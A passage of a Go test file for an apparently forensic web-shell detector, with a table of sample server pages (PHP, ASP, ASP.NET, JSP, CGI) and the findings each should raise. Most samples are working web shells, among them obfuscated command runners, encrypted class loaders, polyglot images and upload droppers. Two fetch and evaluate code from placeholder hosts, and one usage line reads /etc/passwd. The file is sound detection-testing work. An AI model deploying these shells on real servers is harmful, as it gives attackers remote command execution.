package webshell

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// best returns the highest-severity finding, or nil.
func best(fs []audit.Finding) *audit.Finding {
	var b *audit.Finding
	for i := range fs {
		if b == nil || fs[i].Severity > b.Severity {
			b = &fs[i]
		}
	}
	return b
}

func dump(fs []audit.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		b.WriteString("\n  " + f.Severity.String() + " " + f.Rule + " " + f.Title + " | " + f.Evidence)
	}
	return b.String()
}

func TestAnalyze(t *testing.T) {
	tests := []struct {
		name, path, src string
		rule            string // "" : nothing at medium or above
		title           string // substring of the finding's title
	}{
		{"request through a variable", "/var/www/html/simple-backdoor.php",
			"<!-- Simple PHP backdoor -->\n<?php\nif(isset($_REQUEST['cmd'])){\n        echo \"<pre>\";\n        $cmd = ($_REQUEST['cmd']);\n        system($cmd);\n        echo \"</pre>\";\n        die;\n}\n?>\nUsage: http://target.com/simple-backdoor.php?cmd=cat+/etc/passwd\n",
			RuleCommand, "system()"},
		{"runner name split with a bare word, in a stream wrapper", "/var/www/html/lib/wrapper.inc",
			"<?php\nstream_wrapper_register('x', 'W');\nclass W {\n  function stream_open($p, $m, $o, &$op) {\n    sy.'stem'($_GET['c']);\n    return true;\n  }\n}\nfopen('x://y', 'r');\n", RuleCommand, "system()"},
		{"runner name split right before the call", "/var/www/html/a.php", "<?php 'pas'.'sthru'($_REQUEST['q']);", RuleCommand, "passthru()"},
		{"classic ASP statement call into a function that evaluates", "/var/www/iis/wwwroot/upload/x.asp",
			"<%Function run(s) eval s End Function%><%D = request(\"k\")%><%run D%>\n", RuleCode, "eval()"},
		{"classic ASP sub executing its argument", "/var/www/iis/wwwroot/y.asp", "<%\nSub Go(ByVal c)\n  Execute c\nEnd Sub\nGo Request.Form(\"z\")\n%>\n", RuleCode, "Execute()"},
		{"classic ASP function formatting request input for the page", "/var/www/iis/wwwroot/f.asp", "<%\nFunction Fmt(s)\n  Fmt = Trim(s)\nEnd Function\nSub Show(v)\n  Response.Write Server.HTMLEncode(v)\nEnd Sub\nShow Fmt(Request(\"q\"))\n%>\n", "", ""},
		{"JSP class loader defining a class from a literal it decodes", "/opt/tomcat/webapps/manager/health.jsp",
			"<%@ page import=\"java.util.*\" %>\n<%!\n  static class L extends ClassLoader {\n    L(ClassLoader p) { super(p); }\n    Class<?> d(byte[] b) { return defineClass(null, b, 0, b.length); }\n  }\n%>\n<%\n  byte[] b = Base64.getDecoder().decode(\"yv66vgAAADQAHQoABgAPCQAQABEIABIKABMAFAcAFQcAFg==\");\n  new L(Thread.currentThread().getContextClassLoader()).d(b).newInstance();\n%>\n", RuleClassLoad, "defineClass()"},
		{"JSP defining a class from hex by reflection, then calling it with the request", "/var/lib/tomcat9/webapps/ROOT/s.jsp",
			"<%@ page import=\"java.lang.reflect.*\" %>\n<%\n  String h = \"cafebabe0000003400\";\n  byte[] b = new byte[h.length() / 2];\n  for (int i = 0; i < b.length; i++) b[i] = (byte) Integer.parseInt(h.substring(2 * i, 2 * i + 2), 16);\n  Method m = ClassLoader.class.getDeclaredMethod(\"defineClass\", byte[].class, int.class, int.class);\n  m.setAccessible(true);\n  Class c = (Class) m.invoke(getClass().getClassLoader(), b, 0, b.length);\n  c.getMethod(\"go\", String.class).invoke(null, request.getParameter(\"z1\"));\n%>\n", RuleClassLoad, ""},
		{"JSP loading a JDBC driver by name", "/var/lib/tomcat9/webapps/app/db.jsp",
			"<%@ page import=\"java.sql.*\" %>\n<%\n  Class.forName(\"org.postgresql.Driver\");\n  Connection c = DriverManager.getConnection(\"jdbc:postgresql://db/app\", \"app\", \"\");\n  out.println(c.isValid(2));\n%>\n", "", ""},
		{"code fetched through a helper function and evaluated", "/var/www/html/wp-content/uploads/2024/05/bc.php",
			"<?php\nfunction grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $r = curl_exec($c); curl_close($c); return $r; }\n$a = grab('https://short.example.net/4h3VgoI');\neval('?>' . $a);\n", RuleCode, "code fetched from"},
		{"code fetched by a runner named in pieces", "/var/www/html/wp-config-sample.php",
			"<?php\n$f = \"f\".\"i\".\"l\".\"e\".\"_\".\"g\".\"e\".\"t\".\"_\".\"c\".\"o\".\"n\".\"t\".\"e\".\"n\".\"t\".\"s\";\n$x = $f('http://203.0.113.9/p.txt');\neval(\"?>\" . $x);\n", RuleCode, "code fetched from"},
		{"remote data decoded, a local file evaluated", "/var/www/html/feed.php",
			"<?php\n$j = json_decode(file_get_contents('https://api.example.org/v1/feed'), true);\ninclude __DIR__ . '/templates/feed.php';\necho count($j);\n", "", ""},
		{"installer running a command on a downloaded archive", "/var/www/html/setup/install.php",
			"<?php\n$t = '/tmp/pkg.zip';\nfile_put_contents($t, file_get_contents('https://downloads.example.org/pkg.zip'));\nsystem('unzip -o ' . escapeshellarg($t) . ' -d /var/www/html/vendor');\nrequire_once '/var/www/html/vendor/autoload.php';\n", "", ""},
		{"upload kept under the client's name in the page's directory", "/var/www/html/wp-content/uploads/u.php",
			"<html><body><form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>\n<?php\nif (isset($_FILES['f'])) {\n  $up = $_FILES['f'];\n  $to = './' . basename($up['name']);\n  if (move_uploaded_file($up['tmp_name'], $to)) { echo 'saved ' . $up['name']; }\n}\n?></body></html>\n", RuleWrite, "type unchecked"},
		{"upload kept under the client's name below a directory", "/var/www/html/files/x.php",
			"<?php\n$dir = __DIR__ . '/files/';\nmove_uploaded_file($_FILES['doc']['tmp_name'], $dir . $_FILES['doc']['name']);\n", RuleWrite, "type unchecked"},
		{"upload checked against a list of extensions", "/var/www/html/avatar.php",
			"<?php\n$ext = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION));\nif (!in_array($ext, array('jpg', 'png', 'gif'))) { die('type'); }\nmove_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . basename($_FILES['f']['name']));\n", "", ""},
		{"upload kept under a name of the page's making", "/var/www/html/avatar2.php",
			"<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . uniqid('a', true) . '.jpg');\n", "", ""},
		{"GIF polyglot", "/var/www/html/uploads/avatar.gif", "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04<?php system($_GET['c']); ?>",
			RuleCommand, "polyglot: GIF image with a PHP page inside"},
		{"JPEG polyglot", "/var/www/html/a.jpg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00<?php passthru($_POST['x']); ?>\xff\xd9",
			RuleCommand, "JPEG image"},
		{"PHP appended to a big binary database", "/var/www/html/data/cache.db", binaryWithPHP(2<<20, "<?php system($_GET['c']); ?>"),
			RuleCommand, "polyglot"},
		{"unclosed PHP island in binary data", "/var/www/html/data/blob.bin", binaryWithPHP(1<<20, "<?php\n$x = $_POST['x'];\npassthru($x);\n\x00\x01"),
			RuleCommand, "polyglot"},
		{"decoded layers", "/var/www/html/x.php", `<?php eval(gzinflate(base64_decode('K64sLknN1VCJD3INDHUNDolWT1aP1bQGAA=='))); ?>`,
			RuleCommand, "(decoded: base64 > gzinflate)"},
		{"array element", "/var/www/html/y.php", `<?php $f = 'sys'.'tem'; $a = array('x' => $_POST['z']); $f($a['x']); ?>`, RuleCommand, "system()"},
		{"function parameter", "/var/www/html/z.php", `<?php function run($c) { return shell_exec($c); } echo run($_GET['q']); ?>`, RuleCommand, "shell_exec()"},
		{"constant callback", "/var/www/html/cb.php", `<?php call_user_func('assert', $_POST['x']); ?>`, RuleCode, "assert() via call_user_func()"},
		{"request-named callback", "/var/www/html/cb2.php", `<?php array_map($_GET['f'], array($_GET['a'])); ?>`, RuleCallable, "array_map()"},
		{"request-named function", "/var/www/html/f.php", `<?php $_REQUEST['f']($_REQUEST['a']);`, RuleCallable, ""},
		{"encrypted body loader", "/var/www/html/g.php", `<?php @session_start(); $k='3c6e0b8a9c15224a'; $data=file_get_contents("php://input"); $data=openssl_decrypt($data, "AES128", $k); $arr=explode('|',$data); $params=$arr[1]; class C{public function __invoke($p) {eval($p."");}} @call_user_func(new C(),$params); ?>`,
			RuleCode, "eval()"},
		{"session-stored payload", "/var/www/html/s.php", `<?php session_start(); function enc($d,$k){ for($i=0;$i<strlen($d);$i++){ $d[$i] = $d[$i]^$k[$i+1&15]; } return $d; }
$data = enc(base64_decode($_POST['pass']), 'k'); if (isset($_SESSION['payload'])) { $payload = enc($_SESSION['payload'], 'k'); eval($payload); } else { $_SESSION['payload'] = enc($data, 'k'); } ?>`, RuleCode, "eval()"},
		{"payload kept in the session, function name built", "/var/www/html/cache/s2.php", "<?php\nsession_start();\n$a = 'as'; $b = 'sert';\n$f = $a.$b;\n$f($_SESSION['k']);\n", RuleCode, ""},
		{"payload kept in the session, eval", "/var/www/html/s3.php", "<?php @session_start(); $p = $_SESSION['p']; if ($p) { eval(base64_decode($p)); }", RuleCode, "eval()"},
		{"session value picks a language file", "/var/www/html/lang.php", "<?php session_start(); include __DIR__ . '/lang/' . basename($_SESSION['lang']) . '.php'; echo $_SESSION['user']; system('date');", "", ""},
		{"extract", "/var/www/html/e.php", `<?php extract($_POST); passthru($c); ?>`, RuleCommand, "passthru()"},
		{"backticks", "/var/www/html/b.php", "<?php $x = $_GET['x']; echo `$x`; ?>", RuleCommand, "backticks"},
		{"preg_replace /e", "/var/www/html/p.php", `<?php preg_replace('/.*/e', $_POST['code'], ''); ?>`, RuleCode, "/e"},
		{"uploaded file included", "/var/www/html/i.php", `<?php include($_FILES['f']['tmp_name']); ?>`, RuleInclude, "uploaded file"},
		{"request-named include", "/var/www/html/i2.php", `<?php $p = $_GET['page']; require $p; ?>`, RuleInclude, "require"},
		// Code handed to a sink as a literal runs in the page's scope.
		{"eval of a literal", "/var/www/html/l1.php", `<?php eval('$t = $_SERVER["HTTP_X_T"]; shell_exec($t);'); ?>`, RuleCommand, "(decoded: code literal)"},
		{"eval of a heredoc variable", "/var/www/html/l2.php", "<?php\n$body = <<<BODY\n\\$f = 'pass' . 'thru';\n\\$f(\\$_POST['q']);\nBODY;\neval($body);\n", RuleCommand, "passthru()"},
		{"/e replacement reads the page's variable", "/var/www/html/l3.php", `<?php $in = $_COOKIE['c']; @preg_replace("#.+#e", '@'.'eval($in)', 'x'); ?>`, RuleCode, "eval()"},
		{"create_function literal body", "/var/www/html/l4.php", `<?php $g = $_REQUEST['g']; $f = create_function('', 'system($GLOBALS["g"]); popen($g, "r");'); $f(); ?>`, RuleCommand, ""},
		{"session relay into a /e literal", "/var/www/html/l5.php", `<?php session_start(); $_SESSION['v'] = $_POST['v']; preg_replace('/z/e', 'assert($_SESSION["v"])', 'z'); ?>`, RuleCode, "assert()"},
		{"literal code without request input", "/var/www/html/l6.php", `<?php $n = $_GET['n']; assert('$n > 0'); eval('return 1 + 2;'); echo preg_replace('/(\w+)/e', 'strtoupper("\\1")', 'abc'); ?>`, "", ""},
		// ASP.NET handlers name their context as they like; a shell's stdin is its commands.
		{"handler context named otherwise", "/var/www/html/h1.ashx", "<%@ WebHandler Language=\"C#\" Class=\"Q\" %>\nusing System.Web;\npublic class Q : IHttpHandler {\n public void ProcessRequest(HttpContext hc) {\n  var v = hc.Request.Form[\"v\"];\n  System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + v);\n }\n public bool IsReusable { get { return true; } }\n}\n", RuleCommand, "Process.Start()"},
		{"request written to a shell's stdin", "/var/www/html/h2.aspx", "<%@ Page Language=\"C#\" %>\n<%\nvar p = new System.Diagnostics.Process();\np.StartInfo.FileName = \"/bin/sh\";\np.StartInfo.RedirectStandardInput = true;\np.StartInfo.UseShellExecute = false;\np.Start();\nstring line = Request.QueryString[\"l\"];\np.StandardInput.WriteLine(line);\n%>\n", RuleCommand, "StandardInput.WriteLine()"},
		{"handler context without a sink", "/var/www/html/h3.ashx", "<%@ WebHandler Language=\"C#\" Class=\"Q\" %>\nusing System.Web;\npublic class Q : IHttpHandler {\n public void ProcessRequest(HttpContext hc) {\n  hc.Response.Write(System.Web.HttpUtility.HtmlEncode(hc.Request.QueryString[\"n\"]));\n  var p = System.Diagnostics.Process.Start(\"/usr/bin/uptime\");\n  p.StandardInput.WriteLine(\"q\");\n }\n public bool IsReusable { get { return true; } }\n}\n", "", ""},
		// The JDK's process launcher reached by reflection; a Java method may be named def.
		{"reflected ProcessImpl", "/var/www/html/j1.jsp", "<%\nfinal String w = request.getParameter(\"w\");\nClass<?> k = Class.forName(\"java.lang.\" + \"Process\" + \"Impl\");\njava.lang.reflect.Method m = k.getDeclaredMethod(\"start\", String[].class, java.util.Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class);\nm.setAccessible(true);\nHolder.args = new Object[]{w.split(\" \"), null, null, null, false};\nm.invoke(null, Holder.args);\n%>\n", RuleCommand, "ProcessImpl"},
		{"request method called by reflection, chained", "/var/www/html/r1.jsp", "<%\nString c = (String) request.getClass().getMethod(\"getParameter\", String.class).invoke(request, \"c\");\nRuntime.getRuntime().exec(c);\n%>\n", RuleCommand, "Runtime.exec()"},
		{"request method called by reflection on an object found elsewhere", "/opt/app/webapps/ROOT/r2.jsp", "<%\nObject r = holder.current();\njava.lang.reflect.Method m = r.getClass().getDeclaredMethod(\"getHeader\", String.class);\nString x = (String) m.invoke(r, \"X-Task\");\nnew ProcessBuilder(\"sh\", \"-c\", x).start();\n%>\n", RuleCommand, ""},
		{"request header read by reflection and printed", "/opt/app/webapps/ROOT/r3.jsp", "<%\nObject r = holder.current();\njava.lang.reflect.Method m = r.getClass().getMethod(\"getHeader\", String.class);\nout.println(m.invoke(r, \"User-Agent\"));\n%>\n", "", ""},
		{"reflected call of another method, fixed command", "/opt/app/webapps/ROOT/r4.jsp", "<%\njava.lang.reflect.Method m = o.getClass().getMethod(\"toString\");\nString s = (String) m.invoke(o);\nRuntime.getRuntime().exec(\"uptime\");\n%>\n", "", ""},
		{"reflected ProcessImpl without the request", "/var/www/html/j2.jsp", "<%\nClass<?> k = Class.forName(\"java.lang.ProcessImpl\");\nout.print(k.getName());\n%>\n", "", ""},
		{"Java method named def", "/var/www/html/j3.jsp", "<%!\nclass K extends ClassLoader { K(ClassLoader p) { super(p); } Class def(byte[] b) { return defineClass(b, 0, b.length); } }\n%>\n<%\nbyte[] body = java.util.Base64.getDecoder().decode(request.getReader().readLine());\nnew K(getClass().getClassLoader()).def(body).newInstance();\n%>\n", RuleClassLoad, "defineClass()"},
		// Closures kept in a variable or an array element share the page's variables.
		{"closure in a variable", "/var/www/html/k1.php", "<?php\n$run = function ($w) {\n    return shell_exec($w);\n};\necho $run($_POST['w']);\n", RuleCommand, "shell_exec()"},
		{"closure in an array", "/var/www/html/k2.php", "<?php\n$ops = array('go' => static function ($q, $n) { $g = 'pass' . 'thru'; call_user_func($g, $q); });\n$ops['go']($_COOKIE['q'], 1);\n", RuleCommand, "passthru()"},
		{"arrow function", "/var/www/html/k3.php", "<?php $e = fn($s) => assert($s); $e($_REQUEST['s']);", RuleCode, "assert()"},
		{"closure that escapes its input", "/var/www/html/k4.php", "<?php $show = function ($v) { echo htmlspecialchars($v); }; $show($_GET['v']); $f = function () { system('uptime'); }; $f();", "", ""},
		{"hidden eval of a constant", "/var/www/html/h.php", `<?php eval(base64_decode('ZWNobyAiaGVsbG8gd29ybGQiOyBmdW5jdGlvbiBmKCkgeyByZXR1cm4gMTsgfQ==')); ?>`, RuleHidden, "base64"},
		{"JSP parameter", "/srv/tomcat/webapps/ROOT/cmd.jsp", `<%@ page import="java.io.*" %><% String c = request.getParameter("cmd"); Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",c}); %>`, RuleCommand, "Runtime.exec()"},
		{"JSP class loader", "/srv/tomcat/webapps/ROOT/b.jsp", `<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>`,
			RuleClassLoad, "defineClass()"},
		{"JSPX", "/srv/tomcat/webapps/ROOT/x.jspx", `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>String c = request.getParameter("c"); if (c != null &amp;&amp; c.length() &gt; 0) { Runtime.getRuntime().exec(c); }</jsp:scriptlet></jsp:root>`, RuleCommand, "Runtime.exec()"},
		{"ASP.NET ProcessStartInfo", "/inetpub/wwwroot/c.aspx", `<%@ Page Language="C#" %><% var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe"); psi.Arguments = "/c " + Request["c"]; System.Diagnostics.Process.Start(psi); %>`, RuleCommand, "Process.Start()"},
		{"ASP.NET JScript eval", "/inetpub/wwwroot/j.aspx", `<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`, RuleCode, "eval()"},
		{"ASP.NET assembly", "/inetpub/wwwroot/a.aspx", `<%@ Page Language="C#" %><% byte[] b = Convert.FromBase64String(Request.Form["d"]); System.Reflection.Assembly.Load(b).CreateInstance("X").Equals(this); %>`, RuleClassLoad, "Assembly.Load()"},
		{"ASP.NET request of a cast context", "/inetpub/wwwroot/h.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    object[] o = { c };\n    var body = ((HttpContext)o[0]).Request.BinaryRead(((HttpContext)o[0]).Request.ContentLength);\n    var k = System.Text.Encoding.Default.GetBytes(\"0123456789abcdef\");\n    var plain = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(body, 0, body.Length);\n    System.Reflection.Assembly.Load(plain).CreateInstance(\"P\").Equals(c);\n  }\n  public bool IsReusable { get { return false; } }\n}\n", RuleClassLoad, "Assembly.Load()"},
		{"ASP.NET request held in a variable", "/inetpub/wwwroot/r.aspx", `<%@ Page Language="C#" %><% var r = Request; var s = r.InputStream; byte[] b = new byte[s.Length]; s.Read(b, 0, b.Length); System.Reflection.Assembly.Load(b).CreateInstance("P").Equals(this); %>`, RuleClassLoad, "Assembly.Load()"},
		{"ASP.NET request in a variable, plugin from disk", "/inetpub/wwwroot/p.aspx", `<%@ Page Language="C#" %><% var q = Request; var n = Server.HtmlEncode(q.QueryString["n"]); var asm = System.Reflection.Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath("~/bin/Plugins.dll"))); Response.Write(n + asm.FullName); %>`, "", ""},
		{"classic ASP shell object", "/inetpub/wwwroot/v.asp", "<%\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nc = Request(\"c\")\r\nSet ex = sh.Exec(\"cmd /c \" & c)\r\nResponse.Write ex.StdOut.ReadAll\r\n%>", RuleCommand, "WScript.Shell.Exec()"},
		{"classic ASP eval", "/inetpub/wwwroot/e.asp", `<%eval request("x")%>`, RuleCode, "eval()"},
		{"classic ASP Execute", "/inetpub/wwwroot/x.asp", "<%\r\nExecute Request.Form(\"code\")\r\n%>", RuleCode, "Execute()"},
		{"classic ASP code assembled from Chr", "/inetpub/wwwroot/ca.asp", "<%\r\nf = Chr(101) & Chr(118) & Chr(97) & Chr(108)\r\nr = Chr(114) & Chr(101) & Chr(113) & Chr(117) & Chr(101) & Chr(115) & Chr(116)\r\nc = f & \"(\" & r & \"(\"\"k\"\"))\"\r\nExecute(c)\r\n%>", RuleCode, "Execute()"},
		{"classic ASP code naming a request variable", "/inetpub/wwwroot/cb.asp", "<%\r\nv = Request.QueryString(\"q\")\r\ncode = \"Ev\" & \"al(v)\"\r\nExecuteGlobal code\r\n%>", RuleCode, "ExecuteGlobal()"},
		{"classic ASP code from split words", "/inetpub/wwwroot/cc.asp", "<%\r\nw = Split(\"x|req\" & \"uest|k\", \"|\")\r\nc = \"eval(\" & w(1) & \"(\"\"\" & w(2) & \"\"\"))\"\r\nExecute c\r\n%>", RuleCode, "Execute()"},
		{"classic ASP assembled code without request input", "/inetpub/wwwroot/cd.asp", "<%\r\nname = \"Title\"\r\nExecute \"Dim \" & name & \" : \" & name & \" = \"\"Home\"\"\"\r\nq = Request(\"page\")\r\nResponse.Write Server.HTMLEncode(q)\r\n%>", "", ""},
		{"classic ASP request input kept in a Dictionary", "/inetpub/wwwroot/da.asp", "<%\r\nSet bag = Server.CreateObject(\"Scripting.Dictionary\")\r\nbag.Add \"k\", Request(\"c\")\r\nExecute(bag(\"k\"))\r\n%>", RuleCode, "Execute()"},
		{"classic ASP request input through Session into a Dictionary", "/inetpub/wwwroot/db.asp", "<%\r\nn = \"s\"\r\nSet m = CreateObject(\"Scripting.Dictionary\")\r\nIf IsEmpty(Session(n)) Then\r\n  Session(n) = Request.Form(\"z\")\r\nElse\r\n  m.Add n, Session(n)\r\n  ExecuteGlobal m.Item(n)\r\nEnd If\r\n%>", RuleCode, "ExecuteGlobal()"},
		{"classic ASP request input stored by Dictionary index", "/inetpub/wwwroot/dc.asp", "<%\r\nSet m = CreateObject(\"Scripting.Dictionary\")\r\nm(\"k\") = Request.QueryString(\"c\")\r\nEval(m.Item(\"k\"))\r\n%>", RuleCode, "Eval()"},
		{"classic ASP request input kept in Application", "/inetpub/wwwroot/dd.asp", "<%\r\nApplication(\"x\") = Request(\"a\")\r\nExecuteGlobal Application(\"x\")\r\n%>", RuleCode, "ExecuteGlobal()"},
		{"classic ASP Dictionary whose key alone is request input", "/inetpub/wwwroot/de.asp", "<%\r\nSet d = CreateObject(\"Scripting.Dictionary\")\r\nd.Add Request(\"n\"), \"x = 1\"\r\nExecute d(\"a\")\r\n%>", "", ""},
		{"classic ASP Dictionary of constant code beside one of request input", "/inetpub/wwwroot/df.asp", "<%\r\nSet d = CreateObject(\"Scripting.Dictionary\")\r\nd.Add \"name\", Request(\"n\")\r\nSet e = CreateObject(\"Scripting.Dictionary\")\r\ne.Add \"code\", \"x = 1\"\r\nExecute e(\"code\")\r\n%>", "", ""},
		{"classic ASP Session of constant code", "/inetpub/wwwroot/dg.asp", "<%\r\nSession(\"code\") = \"Dim t\"\r\nExecute Session(\"code\")\r\nResponse.Write Server.HTMLEncode(Request(\"q\"))\r\n%>", "", ""},
		{"Perl CGI", "/usr/lib/cgi-bin/s.pl", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint \"Content-type: text/plain\\n\\n\";\nprint `$c`;\n", RuleCommand, "backticks"},
		{"Python CGI", "/usr/lib/cgi-bin/s.py", "#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('cmd')\nos.system(cmd)\n", RuleCommand, "system()"},
		{"Ruby CGI", "/usr/lib/cgi-bin/s.rb", "#!/usr/bin/ruby\nrequire 'cgi'\ncgi = CGI.new\nc = cgi['c']\nputs `#{c}`\n", RuleCommand, "backticks"},

		{"header read from the environment", "/var/www/html/h2.php", `<?php $c = getenv('HTTP_X_C'); passthru($c); ?>`, RuleCommand, "passthru()"},
		{"callable parameter", "/var/www/html/cp.php", `<?php function f($g, $v) { $g($v); } f('assert', $_POST['x']); ?>`, RuleCode, "assert() via $g"},
		{"computed function name", "/var/www/html/cn.php", `<?php $a = strtr('azxcvt', 'zxcv', 'sser'); $a($_POST['x']); ?>`, RuleCode, "assert()"},
		{"XOR-built function name", "/var/www/html/xo.php", `<?php $a = ('!' ^ '@') . 'ssert'; $a($_POST['x']); ?>`, RuleCode, "assert()"},
		{"superglobal named by a literal", "/var/www/html/vv.php", `<?php foreach (array('_POST') as $s) { foreach ($$s as $k => $v) { system($v); } } ?>`, RuleCommand, "system()"},
		{"superglobal read through $GLOBALS", "/var/www/html/gv.php", `<?php $src = '_COO' . 'KIE'; $run = 'sys' . 'tem'; $run($GLOBALS[$src]['t']); ?>`, RuleCommand, "system()"},
		{"dropper", "/var/www/html/up.php", `<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']); ?>`, RuleWrite, "move_uploaded_file()"},
		{"dropper to the current directory", "/var/www/html/up2.php", `<?php $t = $_FILES['f']['tmp_name']; $n = $_FILES['f']['name']; copy($t, $n); ?>`, RuleWrite, "copy()"},
		{"file written from request values", "/var/www/html/w.php", `<?php $h = fopen($_POST['p'], 'w'); fwrite($h, $_POST['c']); fclose($h); ?>`, RuleWrite, "fopen()"},
		{"run-time named function", "/var/www/html/rt.php", `<?php function cb($v, $k) { $x = $k . $v; $x($_POST['x']); } $a = load_table(); array_walk($a, 'cb'); ?>`, RuleDynamic, "$x()"},
		{"run-time name from a literal array", "/var/www/html/rt2.php", `<?php function cb($v, $k) { $x = $k . $v; $x($_POST['x']); } $a = array('ass' => 'ert'); array_walk($a, 'cb'); ?>`, RuleCode, "assert() via $x"},
		{"ASMX web method", "/inetpub/wwwroot/s.asmx", "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Web.Services;\npublic class S : WebService {\n[WebMethod]\npublic string R(string a, string b) { var p = new System.Diagnostics.ProcessStartInfo(a, b); return System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd(); }\n}\n", RuleCommand, "Process"},
		{"ASP.NET form control", "/inetpub/wwwroot/t.aspx", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + box.Text; p.Start(); }\n</script>\n<form runat=\"server\"><asp:TextBox ID=\"box\" runat=\"server\" /><asp:Button runat=\"server\" OnClick=\"Go\" /></form>\n", RuleCommand, "Process.Start()"},
		{"reflective assembly load named by a page function from int arrays", "/inetpub/wwwroot/ra.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; using System.Web; using System.Reflection; using System.Text;\npublic class H : IHttpHandler {\n  static string N(int[] v) { var sb = new StringBuilder(); foreach (int x in v) sb.Append((char)x); return sb.ToString(); }\n  public void ProcessRequest(HttpContext c) {\n    byte[] buf = c.Request.BinaryRead(c.Request.ContentLength);\n    Type t = Type.GetType(N(new int[] {83,121,115,116,101,109,46,82,101,102,108,101,99,116,105,111,110,46,65,115,115,101,109,98,108,121}));\n    MethodInfo m = t.GetMethod(N(new int[] {76,111,97,100}), new Type[] { typeof(byte[]) });\n    object asm = m.Invoke(null, new object[] { buf });\n  }\n  public bool IsReusable { get { return false; } }\n}\n", RuleClassLoad, "reflected Load()"},
		{"reflective assembly load named by GetString of a byte array in a variable", "/inetpub/wwwroot/rb.aspx", "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Reflection\" %>\n<%\nbyte[] data = Convert.FromBase64String(Request.Form[\"d\"]);\nstring ln = Encoding.ASCII.GetString(new byte[] { 0x4c, 0x6f, 0x61, 0x64 });\ntypeof(Assembly).GetMethod(ln, new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });\n%>\n", RuleClassLoad, "reflected Load()"},
		{"reflective assembly load named by char casts", "/inetpub/wwwroot/rc.aspx", "<%@ Page Language=\"C#\" %>\n<%\nvar raw = Request.BinaryRead(Request.TotalBytes);\nvar mi = typeof(System.Reflection.Assembly).GetMethod(\"\" + (char)76 + (char)111 + (char)97 + (char)100, new Type[] { typeof(byte[]) });\nmi.Invoke(null, new object[] { raw });\n%>\n", RuleClassLoad, "reflected Load()"},
		{"reflective call of a harmless method named by codes", "/inetpub/wwwroot/rd.ashx", "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\nusing System; using System.Web; using System.Text;\npublic class U : IHttpHandler {\n  static string N(int[] v) { var sb = new StringBuilder(); foreach (int x in v) sb.Append((char)x); return sb.ToString(); }\n  public void ProcessRequest(HttpContext c) {\n    string q = c.Request.QueryString[\"q\"];\n    var m = typeof(string).GetMethod(N(new int[] {84,111,85,112,112,101,114}), new Type[0]);\n    c.Response.Write(HttpUtility.HtmlEncode((string)m.Invoke(q, null)));\n  }\n  public bool IsReusable { get { return true; } }\n}\n", "", ""},
		{"reflective assembly load of the page's own file", "/inetpub/wwwroot/re.ashx", "<%@ WebHandler Language=\"C#\" Class=\"P\" %>\nusing System; using System.IO; using System.Web; using System.Reflection; using System.Text;\npublic class P : IHttpHandler {\n  static string N(int[] v) { var sb = new StringBuilder(); foreach (int x in v) sb.Append((char)x); return sb.ToString(); }\n  public void ProcessRequest(HttpContext c) {\n    byte[] plugin = File.ReadAllBytes(c.Server.MapPath(\"~/bin/plugin.dll\"));\n    var m = typeof(Assembly).GetMethod(N(new int[] {76,111,97,100}), new Type[] { typeof(byte[]) });\n    m.Invoke(null, new object[] { plugin });\n    c.Response.Write(HttpUtility.HtmlEncode(c.Request.QueryString[\"n\"]));\n  }\n  public bool IsReusable { get { return true; } }\n}\n", "", ""},
		{"JSP reflective exec named by a page method from int codes", "/var/lib/tomcat9/webapps/ROOT/rf.jsp", "<%@ page import=\"java.lang.reflect.Method\" %>\n<%!\nString n(int[] c) { StringBuilder b = new StringBuilder(); for (int x : c) b.append((char) x); return b.toString(); }\n%>\n<%\nString cmd = request.getParameter(\"c\");\nMethod m = Runtime.class.getMethod(n(new int[]{101,120,101,99}), String.class);\nm.invoke(Runtime.getRuntime(), cmd);\n%>\n", RuleCommand, "reflected exec()"},
